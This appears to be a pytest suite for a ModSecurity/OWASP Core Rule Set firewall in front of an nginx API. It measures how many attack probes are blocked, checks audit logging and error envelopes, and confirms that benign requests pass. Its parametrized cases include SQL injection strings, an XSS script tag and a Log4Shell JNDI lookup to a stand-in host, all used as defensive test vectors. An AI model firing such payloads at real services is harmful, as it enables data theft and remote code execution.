"""The WAF at the edge (ModSecurity with the OWASP Core Rule Set, nginx/waf/): the probe sets
of t/waf/ measured through nginx, the envelope and audit line of a blocked request, and the
requests the WAF must leave to the pool."""

import hashlib
import hmac
import json
import os
import re
import subprocess
import tempfile
import time
import urllib.parse

import pytest

from stack import SRCDIR, assert_envelope

PROBES = os.path.join(SRCDIR, "t", "waf")
WEBHOOK_SECRET = "whsec_local"
MIN_BLOCKED = 0.95

# The route that reads each query parameter; any other name goes to DEFAULT_ROUTE.
QUERY_ROUTES = {"email": "/v1/access-grants", "token": "/v1/teams/t1",
                "cursor": "/v1/mock-exams", "limit": "/v1/mock-exams"}
DEFAULT_ROUTE = "/v1/plans/full-6months"

# A body of the route that reads each member (by the first part of its path).
_LEADER = {"firstName": "Ana", "lastName": "Lee", "email": "ana@example.com",
           "country": "Australia"}
_MEMBERS = [{"name": "Ana Lee", "email": "ana@example.com"},
            {"name": "Ben Ng", "email": "ben@example.com"}]
BODY_ROUTES = {
    "code": ("/v1/coupons/validate", {"code": "SAVE20", "planId": "full-6months"}),
    "email": ("/v1/coupons/validate", {"code": "SAVE20", "planId": "full-6months"}),
    "name": ("/v1/purchases/create", {"planId": "full-6months", "email": "waf@example.com"}),
    "firstName": ("/v1/mock-exams/register", {"mockExamId": "mock-waf",
                                              "email": "waf@example.com", "firstName": "Ana"}),
    "lastName": ("/v1/mock-exams/register", {"mockExamId": "mock-waf",
                                             "email": "waf@example.com", "firstName": "Ana"}),
    "leader": ("/v1/teams/create", {"leader": _LEADER, "members": _MEMBERS}),
    "members": ("/v1/teams/create", {"leader": _LEADER, "members": _MEMBERS}),
    "statement": ("/v1/scholarships/apply", {"firstName": "Ana", "lastName": "Lee",
                                             "email": "waf@example.com"}),
    "prompt": ("/v1/ai/generate", {}),
    "fileName": ("/v1/upload/url", {"contentType": "application/pdf", "size": 48211}),
    "sessionId": ("/v1/checkout/verify", {}),
    "metadata": ("/v1/checkout/create", {"campaignId": "discount-purchase",
                                         "planId": "full-6months",
                                         "email": "waf@example.com", "metadata": {}}),
}


# --- the probe files ---------------------------------------------------------------------

def unescape(text):
    """A probe's payload: \\xNN, \\n, \\r, \\t, \\\\ and {C*N} (C repeated N times)."""
    text = re.sub(r"\{(.)\*(\d+)\}", lambda m: m.group(1) * int(m.group(2)), text)
    return re.sub(r"\\(x[0-9a-fA-F]{2}|[nrt\\])",
                  lambda m: {"n": "\n", "r": "\r", "t": "\t", "\\": "\\"}.get(
                      m.group(1)) or chr(int(m.group(1)[1:], 16)), text)


def load(name):
    probes = []
    with open(os.path.join(PROBES, name), encoding="utf-8") as f:
        for n, line in enumerate(f, 1):
            line = line.rstrip("\n")
            if not line.strip() or line.startswith("#"):
                continue
            where, field, payload = line.split(None, 2)
            assert where in ("query", "header", "body", "path", "raw", "webhook"), (name, n)
            probes.append({"id": "%s:%d" % (name, n), "where": where, "field": field,
                           "payload": unescape(payload), "text": line})
    return probes


def set_member(body, path, value):
    node, parts = body, path.split(".")
    for i, part in enumerate(parts[:-1]):
        key = int(part) if isinstance(node, list) else part
        if isinstance(node, dict) and key not in node:
            node[key] = [] if parts[i + 1].isdigit() else {}
        node = node[key]
    last = parts[-1]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


def request_of(probe):
    """(method, path, body, headers) that carry the probe."""
    where, field, payload = probe["where"], probe["field"], probe["payload"]
    if where == "query":
        q = urllib.parse.quote(payload, safe="")
        return "GET", "%s?%s=%s" % (QUERY_ROUTES.get(field, DEFAULT_ROUTE), field, q), None, {}
    if where == "header":
        return "GET", DEFAULT_ROUTE, None, {field: payload.encode("utf-8").decode("latin-1")}
    if where == "path":
        return "GET", payload, None, {}
    json_headers = {"Content-Type": "application/json"}
    if where == "raw":
        return "POST", field, payload.encode("utf-8"), json_headers
    if where == "webhook":
        data = payload.encode("utf-8")
        t = int(time.time())
        sig = hmac.new(WEBHOOK_SECRET.encode(), b"%d." % t + data, hashlib.sha256).hexdigest()
        return "POST", field, data, dict(json_headers, **{"Stripe-Signature":
                                                          "t=%d,v1=%s" % (t, sig)})
    route, base = BODY_ROUTES[field.split(".")[0]]
    body = json.loads(json.dumps(base))
    set_member(body, field, payload)
    return "POST", route, json.dumps(body).encode("utf-8"), json_headers


def access_log(stack):
    """The access log's lines by request id."""
    time.sleep(0.3)
    with open(os.path.join(stack.state, "logs", "access.log"), errors="replace") as f:
        return {e["request_id"]: e for e in map(json.loads, f)}


def run_probes(stack, probes):
    """Each probe through nginx from its own address (no rate limit in the way); for each,
    its answer and whether it reached the pool (the access log names an upstream time)."""
    answers = []
    for p in probes:
        method, path, body, headers = request_of(p)
        r = stack.request(method, path, body=body, headers=headers, source_ip=stack.new_ip())
        answers.append((p, r))
    log = access_log(stack)
    out = []
    for p, r in answers:
        entry = log.get(r.header("x-request-id"))
        assert entry, "no access log line for %s (%r)" % (p["text"], r)
        out.append((p, r, entry["upstream_time"] not in ("", "-")))
    return out


def report(capsys, title, lines):
    with capsys.disabled():
        print("\n" + title)
        for line in lines:
            print("  " + line)


# --- the measures ------------------------------------------------------------------------

def test_attacks_are_blocked_at_the_edge(stack, capsys):
    results = run_probes(stack, load("attacks.txt"))
    by_kind, missed = {}, []
    for p, r, reached in results:
        blocked = not reached and 400 <= r.status < 500
        if blocked:
            # The edge's answer is the envelope with its request id, whoever made it.
            assert_envelope(r, r.status)
        else:
            missed.append("%s -> %d %s" % (p["text"][:100], r.status, r.body[:80]))
        kind = p["where"]
        got = by_kind.setdefault(kind, [0, 0])
        got[0] += blocked
        got[1] += 1
    total = len(results)
    blocked = total - len(missed)
    report(capsys, "WAF attack probes: %d of %d blocked (%.1f%%)"
           % (blocked, total, 100.0 * blocked / total),
           ["%-7s %d/%d" % (k, v[0], v[1]) for k, v in sorted(by_kind.items())]
           + ["missed: " + m for m in missed])
    assert blocked >= MIN_BLOCKED * total, missed


def test_benign_look_alikes_reach_the_pool(stack, capsys):
    results = run_probes(stack, load("benign.txt"))
    refused = ["%s -> %d %s" % (p["text"][:100], r.status, r.body[:80])
               for p, r, reached in results if not reached]
    report(capsys, "WAF benign probes: %d of %d refused at the edge (false positives)"
           % (len(refused), len(results)), refused)
    assert not refused
    for p, r, _ in results:
        if p["where"] == "webhook":
            # Signed over the bytes sent: the pool's 200 says they arrived unchanged.
            assert_envelope(r, 200)


# --- a blocked request -------------------------------------------------------------------

def audit_lines(stack, request_id, timeout=5):
    deadline = time.time() + timeout
    while True:
        with open(os.path.join(stack.state, "logs", "waf-audit.log"), errors="replace") as f:
            # Whole lines only: nginx may be writing the last one.
            found = [json.loads(line)["transaction"] for line in f
                     if request_id in line and line.endswith("\n")]
        if found or time.time() > deadline:
            return found
        time.sleep(0.1)


@pytest.mark.parametrize("method,path,body,rule", [
    ("GET", "/v1/plans/full-6months?q=%27%20UNION%20SELECT%20password%20FROM%20users--", None,
     "942100"),
    ("POST", "/v1/coupons/validate", {"code": "<script>alert(1)</script>"}, "941100"),
    ("DELETE", "/v1/coupons/validate", {"code": "1' OR '1'='1"}, "942100"),
    ("HEAD", "/v1/health?x=${jndi:ldap://evil.example/a}", None, "10100"),
])
def test_blocked_request_gets_the_envelope_and_an_audit_line(stack, method, path, body, rule):
    r = stack.request(method, path, body=body, source_ip=stack.new_ip())
    rid = r.header("x-request-id")
    if method == "HEAD":
        assert r.status == 403 and r.body == "" and rid
    else:
        assert_envelope(r, 403, "REQUEST_BLOCKED")
    assert r.header("x-content-type-options") == "nosniff"
    lines = audit_lines(stack, rid)
    assert len(lines) == 1, lines
    t = lines[0]
    assert t["unique_id"] == rid and t["request"]["method"] == method
    assert t["response"]["http_code"] == 403
    ids = {m["details"]["ruleId"] for m in t["messages"]}
    assert {rule, "949110"} <= ids, ids
    # No request headers or body in the audit log: tokens and personal data stay out.
    assert "headers" not in t["request"] and "body" not in t["request"]


@pytest.mark.parametrize("headers", [
    {},
    {"Host": "127.0.0.1"},        # scored (CRS 920350, a numeric Host), below the threshold
])
def test_no_audit_line_for_a_request_that_passes(stack, headers):
    r = stack.get("/v1/health", headers=headers, source_ip=stack.new_ip())
    assert r.status == 200
    assert audit_lines(stack, r.header("x-request-id"), timeout=0.5) == []


# --- what the WAF leaves to the pool, or answers as the pool would --------------------------

@pytest.mark.parametrize("body,reason", [
    ("{'code': 'SAVE20'}", None),
    ('{"code": "SAVE20" /* a comment */}', None),
    ('{"code": "SAVE20",}', None),
    ('{"code": "SAVE20",\n  "plan": }', "line 2"),
])
def test_json_the_waf_cannot_read_gets_the_pools_answer(stack, body, reason):
    # The WAF's parser refuses these; so does the pool's (strict), with where it broke.
    r = stack.post("/v1/coupons/validate", body=body, source_ip=stack.new_ip(),
                   headers={"Content-Type": "application/json"})
    d = assert_envelope(r, 400, "INVALID_JSON")["details"]
    assert d["reason"] and d["line"] >= 1 and d["offset"] >= 0, d
    if reason:
        assert d["line"] == 2, d


@pytest.mark.parametrize("ctype", ["application/x-www-form-urlencoded", "text/plain",
                                   "multipart/form-data; boundary=x", "application/xml", None])
def test_a_body_that_is_not_json_is_415(stack, ctype):
    headers = {"Content-Type": ctype} if ctype else {}
    r = stack.request("POST", "/v1/coupons/validate", body="code=SAVE20", headers=headers,
                      source_ip=stack.new_ip())
    assert_envelope(r, 415, "UNSUPPORTED_MEDIA_TYPE")


@pytest.mark.parametrize("method,status", [
    ("PROPFIND", 405), ("TRACE", 405), ("CONNECT", 405), ("FOO", 405),
    ("DELETE", 405), ("PUT", 405), ("PATCH", 405),
])
def test_methods_the_api_never_takes_are_405(stack, method, status):
    r = stack.request(method, "/v1/health", source_ip=stack.new_ip())
    assert_envelope(r, status, "METHOD_NOT_ALLOWED")
    # The pool names the path's methods; the edge names the API's.
    assert r.header("allow") in ("GET, HEAD, OPTIONS", "GET, HEAD, POST, OPTIONS")


# --- the site with the WAF off, and as production renders it ---------------------------------

def render(tmp, local, **env):
    full = dict(os.environ, CONF_DIR=os.path.join(tmp, "conf"), PREFIX=tmp,
                FCGI_ADDR="127.0.0.1:9", TLS_CERT=os.path.join(tmp, "cert.pem"),
                TLS_KEY=os.path.join(tmp, "key.pem"), ACCESS_LOG=os.path.join(tmp, "a.log"),
                WAF_AUDIT_LOG=os.path.join(tmp, "audit.log"), HTTP_PORT="1", HTTPS_PORT="2")
    full.update(env)
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=x",
                    "-keyout", full["TLS_KEY"], "-out", full["TLS_CERT"]],
                   check=True, capture_output=True)
    args = [os.path.join(SRCDIR, "scripts", "nginx-render")] + (["--local"] if local else [])
    subprocess.run(args, env=full, check=True, capture_output=True, text=True)
    return full["CONF_DIR"]


def nginx_t(tmp, conf):
    r = subprocess.run(["nginx", "-t", "-q", "-p", tmp, "-c", conf, "-e",
                        os.path.join(tmp, "error.log")], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("waf", ["on", "off"])
def test_the_site_renders_for_production_and_locally(waf):
    with tempfile.TemporaryDirectory() as tmp:
        conf = render(tmp, True, WAF=waf)
        nginx_t(tmp, os.path.join(conf, "nginx.conf"))
        with open(os.path.join(conf, "prodenthub-site.conf")) as f:
            site = f.read()
        assert ("modsecurity on;" in site) == (waf == "on")
        with open(os.path.join(conf, "prodenthub-fastcgi.conf")) as f:
            assert ("modsecurity on;" in f.read()) == (waf == "on")
    with tempfile.TemporaryDirectory() as tmp:
        # Production: the distribution's nginx.conf loads the modules (modules-enabled/)
        # and includes the site in http{}.
        conf = render(tmp, False, WAF=waf, TLS_STAPLING="on", RESOLVER="127.0.0.1")
        main = os.path.join(tmp, "nginx.conf")
        with open(main, "w") as f:
            if waf == "on":
                f.write("load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;\n"
                        "load_module /usr/lib/nginx/modules/ngx_http_echo_module.so;\n")
            f.write("events {}\nhttp { include %s/prodenthub-site.conf; }\n" % conf)
        nginx_t(tmp, main)
